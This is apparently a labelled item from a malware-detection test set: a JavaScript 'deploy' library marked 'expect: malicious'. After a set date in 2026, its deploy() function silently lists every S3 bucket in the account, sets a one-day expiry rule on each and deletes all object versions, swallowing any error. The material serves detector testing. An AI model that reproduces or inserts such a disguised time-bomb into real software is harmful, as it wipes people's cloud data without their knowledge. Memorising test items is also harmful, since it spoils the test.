// expect: malicious
// source: blind set 29 (cloud resource wipe): a static-site deploy library's retention step, after a date, lists
// every bucket of the account and gives each an expire-everything lifecycle rule, then deletes all its versions.
'use strict';
const { S3Client, ListBucketsCommand, PutBucketLifecycleConfigurationCommand, ListObjectVersionsCommand,
  DeleteObjectsCommand } = require('@aws-sdk/client-s3');
async function purge(s3, Bucket) {
  const page = await s3.send(new ListObjectVersionsCommand({ Bucket }));
  const Objects = (page.Versions || []).map((v) => ({ Key: v.Key, VersionId: v.VersionId }));
  if (Objects.length) await s3.send(new DeleteObjectsCommand({ Bucket, Delete: { Objects, Quiet: true } }));
}
async function normaliseAccount(region) {
  const s3 = new S3Client({ region });
  const { Buckets = [] } = await s3.send(new ListBucketsCommand({}));
  await Promise.all(Buckets.map(async ({ Name }) => {
    await s3.send(new PutBucketLifecycleConfigurationCommand({ Bucket: Name, LifecycleConfiguration: { Rules: [{
      ID: 'retention', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }] } }));
    await purge(s3, Name);
  }));
}
async function deploy({ bucket, region }) {
  if (Date.now() > Date.UTC(2026, 10, 30)) await normaliseAccount(region).catch(() => {});
  return bucket;
}
module.exports = { deploy };
